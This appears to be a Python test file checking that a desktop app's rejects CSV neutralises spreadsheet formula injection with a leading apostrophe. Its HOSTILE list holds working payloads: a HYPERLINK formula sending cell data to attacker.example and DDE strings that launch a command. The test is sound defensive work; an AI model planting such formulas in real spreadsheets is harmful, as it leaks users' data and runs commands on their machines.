"""Every CSV the app writes neutralizes spreadsheet formulas (issue 14, item 14).

The attack: a grantor list with a bad row whose cells are `=HYPERLINK(...)`, `+cmd`, `-2+3`,
`@SUM(...)`: the import rejects the row and saves it in the rejects CSV, which is meant to be
opened in Excel, where those cells became live formulas. The view export already guarded its
text; the rejects CSV now goes through the same helper, so every text cell that a spreadsheet
would run starts with an apostrophe (shown as plain text).
"""

from __future__ import annotations

import csv
from pathlib import Path

from catalynx_desktop.export.csv_safety import FORMULA_START
from catalynx_desktop.storage.database import Database
from catalynx_desktop.workflows.importing.importer import import_file
from catalynx_desktop.workflows.importing.report import write_rejects_csv
from tests.fresh_loop import arun

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


def test_the_rejects_csv_holds_no_live_formula(tmp_path: Path) -> None:
    source = tmp_path / "grantors.csv"
    with source.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow(["Name", "EIN", "State", "Amount"])
        writer.writerow(["Green Mountain Fund", "030103260", "VT", "5000"])
        for text in HOSTILE:
            writer.writerow([text, "not-an-ein", "VT", "1"])  # bad EIN: the row is rejected

    async def main() -> object:
        db = await Database.open(tmp_path / "catalynx.db")
        try:
            return await import_file(db, source)
        finally:
            await db.close()

    report = arun(main(), timeout=60)
    assert (report.inserted, report.skipped) == (1, len(HOSTILE))  # type: ignore[attr-defined]
    rejects = write_rejects_csv(report, tmp_path / "rejects.csv")  # type: ignore[arg-type]

    with rejects.open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.reader(stream))
    cells = [cell for row in rows for cell in row]
    live = [cell for cell in cells if cell[:1] in FORMULA_START]
    assert live == [], live
    raw = [row[3] for row in rows[1:]]
    assert len(raw) == len(HOSTILE)
    assert all(cell.startswith("'") for cell in raw), raw
    assert raw[0].startswith("'=HYPERLINK(")  # kept whole after the apostrophe, for the user to read
